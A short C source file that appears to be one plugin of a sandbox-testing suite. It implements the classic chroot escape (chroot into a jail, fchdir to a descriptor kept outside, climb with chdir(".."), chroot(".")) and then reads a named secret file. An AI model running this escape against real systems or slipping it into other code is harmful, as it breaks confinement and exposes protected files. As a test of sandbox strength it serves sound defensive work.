/*
 * fs_chroot_escape — the classic chroot escape: chroot into a subdirectory while
 * keeping a descriptor of the current directory outside it, fchdir back to that
 * descriptor, climb with chdir("..") past the new root and chroot(".") at the
 * real root; then read the secret. A sandbox built on chroot alone falls to it.
 */
#include "attack.h"

#include <sys/stat.h>

static sbx_status attack(const atk_input *in, atk_out *out)
{
    char secret[4096];
    char jail[64];
    if (!atk_param(in, "secret_path", secret, sizeof secret)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    int outside = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (outside < 0) {
        atk_failed(out, "open .", errno);
    }
    snprintf(jail, sizeof jail, "/tmp/sbx-atk-jail-%d", (int)getpid());
    if (mkdir(jail, 0700) != 0 && errno != EEXIST) {
        atk_failed(out, "mkdir jail", errno);
    }
    if (chroot(jail) != 0) {
        atk_failed(out, "chroot", errno);
        if (outside >= 0) {
            close(outside);
        }
        rmdir(jail);
        return atk_cat(out, "secret without chroot", secret) ? SBX_OK : SBX_ERR_INTERNAL;
    }
    atk_gained(out, "chroot %s", jail);
    if (outside >= 0 && fchdir(outside) == 0) {
        for (int i = 0; i < 64; i++) {
            if (chdir("..") != 0) {
                break;
            }
        }
        if (chroot(".") == 0) {
            atk_gained(out, "escaped the chroot");
        }
    }
    if (outside >= 0) {
        close(outside);
    }
    rmdir(jail);
    return atk_cat(out, "secret after chroot escape", secret) ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
